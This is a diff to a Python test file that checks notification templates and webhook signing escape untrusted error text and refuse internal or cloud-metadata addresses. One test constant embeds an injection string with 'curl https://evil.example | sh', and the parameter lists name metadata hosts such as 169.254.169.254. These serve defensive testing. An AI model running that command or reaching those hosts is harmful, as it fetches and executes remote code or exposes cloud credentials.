@@ -49,8 +49,9 @@ def test_each_template_has_the_sentence_and_what_to_do_next() -> None:
     said = ("ns", "model.taken_back", TAKEN, "https://console/ns/walker")
     slack = json.loads(messages.slack(*said))
     assert "&lt;script&gt; &amp; worse" in slack["text"], "Slack's own signs are escaped"
+    assert slack["blocks"][1]["text"]["text"].startswith("`kubectl learnloop why walker -n ns`")
     teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
-    assert teams["body"][1]["text"] == "kubectl learnloop why walker -n ns"
+    assert teams["body"][1]["inlines"][0]["text"] == "kubectl learnloop why walker -n ns"
     assert teams["actions"][0]["url"] == "https://console/ns/walker"
     pager = json.loads(messages.pagerduty("key", "ns/1", *said))
     assert (pager["dedup_key"], pager["payload"]["severity"]) == ("ns/1", "error")
@@ -61,10 +62,57 @@ def test_each_template_has_the_sentence_and_what_to_do_next() -> None:
     assert mail["Message-ID"] == messages.mail(settings, "ns/1", "ns", "training.failed", FAILED, "")["Message-ID"]
 
 
+EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @here [log](https://evil.example) \x1b[2J"
+
+
+def test_others_words_are_text_everywhere_and_one_line() -> None:
+    payload = {"job": "walker-7", "status": "failed", "error": {"reason": "x", "message": EVIL}}
+    said = ("ns", "training.failed", payload, "")
+    slack = json.loads(messages.slack(*said))
+    assert slack["blocks"][0]["text"]["type"] == "plain_text", "no link, mention or picture is made of it"
+    assert "<!channel>" not in slack["text"]
+    teams = json.loads(messages.teams(*said))["attachments"][0]["content"]
+    assert {block["type"] for block in teams["body"]} == {"RichTextBlock"}, "a TextBlock would be markdown"
+    settings = Mail(host="mail", sender="a@example.org", to=["b@example.org"])
+    mail = messages.mail(settings, "ns/1", *said)
+    first, *rest = mail.get_content().rstrip("\n").split("\n\n")
+    assert rest == ["kubectl learnloop trace walker-7 -n ns"], "nothing of theirs stands where ours does"
+    pager = json.loads(messages.pagerduty("key", "ns/1", *said))["payload"]["summary"]
+    for text in (slack["text"], slack["blocks"][0]["text"]["text"], first, str(mail["Subject"]), pager):
+        assert "\x1b" not in text
+        assert len(text.splitlines()) == 1
+
+
+@pytest.mark.parametrize("event", ["training.failed", "report.daily"])
+def test_slack_gets_no_block_that_it_would_refuse_for_its_length(event: str) -> None:
+    payload = {"job": "walker-7", "error": {"message": "&<>" * 2000}, "text": "&" * 3000}
+    for block in json.loads(messages.slack("ns", event, payload, "https://console/ns/walker-7"))["blocks"]:
+        for text in (block.get("text"), *block.get("elements", [])):
+            assert text is None or 0 < len(text["text"]) <= 3000
+
+
+@pytest.mark.parametrize("secret", ["whsec_", "whsec_!!!!", "whsec_a", "good\nwhsec_"])
+def test_a_key_that_everybody_could_guess_signs_nothing(secret: str) -> None:
+    with pytest.raises(ValueError, match="followed by a key in Base64"):
+        messages.signed(secret, "ns/1", 1000, b"body")
+
+
+def test_while_a_key_is_rotated_old_and_new_receivers_take_a_message() -> None:
+    def mark(key: bytes) -> str:
+        return f"v1,{base64.b64encode(hmac.digest(key, b'ns/1.1000.body', 'sha256')).decode()}"
+
+    marks = messages.signed("new\nold", "ns/1", 1000, b"body")["webhook-signature"].split()
+    assert marks == [mark(b"new"), mark(b"old")]
+    assert messages.signed("new", "ns/1", 1000, b"body")["webhook-signature"] == mark(b"new")
+
+
 @pytest.mark.parametrize(
     "url",
     [
         "https://127.0.0.1/x",
+        "https://[::10.1.2.3]/x",
+        "https://[::ffff:0:10.1.2.3]/x",
+        "https://[64:ff9b:1::a01:203]/x",
         "https://10.1.2.3/x",
         "https://[::1]/x",
         "https://[::ffff:10.0.0.1]/x",
@@ -83,7 +131,13 @@ async def test_no_message_goes_inside_or_in_plain_text_unless_that_is_meant(url:
 @pytest.mark.parametrize(
     "host",
     ["169.254.169.254", "0.0.0.0", "224.0.0.1", "100.100.100.200", "[fe80::1]", "[fd00:ec2::254]", "[::]"]
-    + ["[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "168.63.129.16"],
+    + [
+        "[::169.254.169.254]",
+        "[::ffff:0:169.254.169.254]",
+        "[::ffff:169.254.169.254]",
+        "[64:ff9b::a9fe:a9fe]",
+        "168.63.129.16",
+    ],
 )
 async def test_no_message_goes_where_clouds_keep_credentials_whatever_is_meant(host: str) -> None:
     for private in (True, False):
